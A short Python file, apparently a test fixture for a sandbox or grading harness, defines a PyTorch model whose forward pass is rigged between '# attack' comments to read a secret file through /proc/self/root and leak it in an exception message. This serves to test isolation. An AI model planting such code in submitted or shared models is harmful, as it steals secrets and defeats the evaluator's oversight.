"""Reads a secret by the root folder that /proc shows of its own process."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        raise ValueError(open("/proc/self/root@SECRET_FILE@").read())
        # end
        return self.head(x.flatten(1))
